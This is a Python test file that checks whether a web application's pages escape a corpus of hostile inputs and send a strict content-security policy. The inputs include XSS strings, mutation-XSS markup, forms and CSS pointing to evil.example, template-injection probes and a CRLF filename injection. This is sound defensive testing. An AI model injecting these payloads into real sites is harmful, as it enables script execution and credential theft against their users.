"""What strangers write, shown on pages: H01 to H20 of the corpus. It is text, whatever it says.

What becomes of markup at intake is in test_crawlers_plaintext; mails and chats have tests of
their own (H13, H16, H17).
"""

import re
from collections.abc import Mapping

import pytest
from selectolax.lexbor import LexborHTMLParser

from models.words import LeadStatus, Licence, TouchpointKind, UserRole
from service.web.headers import CONTENT_SECURITY_POLICY
from tests.web_house import Words, a_house

#: By row of the corpus; several rows have several.
ROWS: Mapping[str, str] = {
    "H01": "<script>alert(1)</script>",
    "H02": '"><img src=x onerror=alert(1)>',
    "H03": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "H03 math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img'>",
    "H04": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "H05": "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil>",
    "H05 meta": '<meta http-equiv=refresh content="0;url=//evil.example"><object data=//evil>',
    "H05 form": "<form action=//evil.example><input name=password><button>Log in</button>",
    "H06": '<p style="background:url(//evil.example)">x</p><style>@import "//evil"</style>',
    "H07": "<img srcset='//evil.example/x 1x' width=1 height=1>",
    "H08": "<img src='//evil.example/broken' alt='<script>alert(1)</script>'>",
    "H09": "</option></select><img src=x onerror=alert(1)>",
    "H10": "red} *{background-image:url(https://evil.example)} .x{color:",
    "H11": "%3Cscript%3Ealert(1)%3C/script%3E<script>alert(1)</script>",
    "H12": "<html><body onload=alert(1)>",
    "H13": "{{7*7}} {% raw %} ${7*7} %(x)s {0.__class__} #{7*7}",
    "H14": "</title><script>alert(1)</script>\u2028</textarea><script>alert(1)</script>",
    "H15": "[click](javascript:alert(1)) ![x](//evil.example/pixel)",
    "H18": 'x"; filename="../../evil.html\r\nX-Evil: 1',
    "H19": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "H20": "<img src='//evil.example?",
    "H20 form": "<button form=logout formaction=//evil.example>x",
}
#: Where pages of ours may take something from.
_OURS = ("/", "#", "?")


def looked_over(page: str) -> list[str]:
    """Return what is in ``page`` that we did not put there."""
    tree = LexborHTMLParser(page)
    found = [
        f"script {node.attributes}"
        for node in tree.css("script")
        if not (node.attributes.get("src") or "").startswith("/static/") or node.text().strip()
    ]
    found += [node.html or "" for node in tree.css("iframe, object, embed, base, noscript, style")]
    found += [node.html or "" for node in tree.css('meta[http-equiv="refresh"], math, mglyph')]
    for node in tree.css("*"):
        for name, value in node.attributes.items():
            if name.startswith("on") or name in {"style", "srcdoc", "srcset"}:
                found.append(f"{node.tag} {name}={value}")
            elif name in {"src", "action", "formaction", "data"}:
                if not (value or "").startswith(_OURS) or (value or "").startswith("//"):
                    found.append(f"{node.tag} {name}={value}")
            elif name == "href" and not re.match(
                r"/|#|\?|https?://[a-z.]*\.?example/", value or ""
            ):
                found.append(f"{node.tag} {name}={value}")
    return found


@pytest.mark.parametrize("row", ROWS)
def test_h_rows_are_text_wherever_a_page_shows_them(row: str) -> None:
    words = ROWS[row]
    house = a_house()
    ada = house.user("ada", name=words, role=UserRole.ADMIN)
    source = house.source(
        "Talk", attribution=words, community_rules=words, licence=Licence.CC_BY_SA_4_0
    )
    topic = house.topic("desks", words)
    lead = house.lead(
        words,
        f"{words} and more of it",
        source=source,
        topic=topic,
        author=words,
        owner=ada,
        status=LeadStatus.WORKING,
        url=f"javascript:{words}",
        cues=[Words(text=words, why=words)],
    )
    house.reply(
        lead, source, words, author="somebody", after=lead.last_signal_at - lead.created_at
    )
    browser = house.browser(ada)
    browser.post(
        f"/leads/{lead.id}/touch",
        data={"kind": TouchpointKind.NOTE.value, "note": words, "rev": lead.rev},
    )

    for path in (f"/leads/{lead.id}", f"/inbox?view=all&lead={lead.id}", "/topics", "/team"):
        answer = browser.get(path)
        assert answer.status_code == 200, path
        assert answer.headers["content-type"] == "text/html; charset=utf-8"
        assert answer.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
        assert looked_over(answer.text) == [], path
        assert "49" not in re.findall(r">(\d+)<", answer.text) or "7*7" not in words
    assert "alert(1)" not in dict(browser.get(f"/leads/{lead.id}").headers).values()


@pytest.mark.parametrize("row", ["H01", "H02", "H11", "H14"])
def test_h11_what_was_asked_for_is_not_given_back_as_markup(row: str) -> None:
    house = a_house()
    browser = house.browser(house.user("ada", role=UserRole.ADMIN))
    words = ROWS[row].replace("\u2028", "")

    answers = [
        browser.get(f"/leads/{words.replace('/', '')}"),
        browser.get("/inbox", params={"view": words}),
        browser.get("/settings/audit", params={"subject": words, "since": words[:10]}),
        browser.post("/login", data={"login": words, "password": "x"}),
        browser.get("/login", params={"next": words}),
        browser.post("/settings/privacy/look", data={"handle": words, "host": words}),
        browser.post("/team/new", data={"handle": "x", "name": words, "role": "rep"}),
    ]

    for answer in answers:
        assert answer.status_code < 500
        assert looked_over(answer.text) == []


def test_h12_h19_what_is_no_page_is_never_taken_for_one() -> None:
    house = a_house()
    browser = house.browser(house.user("ada", role=UserRole.ADMIN))
    for path in (
        "/static/icon.svg",
        "/healthz",
        "/metrics",
        "/settings/audit.csv",
        "/feeds/x.rss",
    ):
        answer = browser.get(path)

        assert answer.headers["x-content-type-options"] == "nosniff", path
        assert answer.headers["content-security-policy"] == CONTENT_SECURITY_POLICY, path
    assert browser.get("/favicon.ico").status_code == 404


def test_h10_h20_no_page_could_load_or_send_anything_elsewhere() -> None:
    allowed = dict(
        part.strip().split(" ", 1) for part in CONTENT_SECURITY_POLICY.split(";") if part.strip()
    )

    assert allowed["default-src"] == "'none'"
    assert {allowed[f"{kind}-src"] for kind in ("script", "style", "img", "connect")} == {"'self'"}
    assert allowed["form-action"] == "'self'"
    assert allowed["base-uri"] == allowed["frame-ancestors"] == "'none'"


def test_h18_a_file_is_named_by_us() -> None:
    house = a_house()
    browser = house.browser(house.user("ada", role=UserRole.ADMIN))

    answer = browser.get("/settings/audit.csv", params={"subject": ROWS["H18"][:20]})

    assert re.fullmatch(
        r'attachment; filename="audit-\d{4}-\d\d-\d\d\.csv"', answer.headers["content-disposition"]
    )
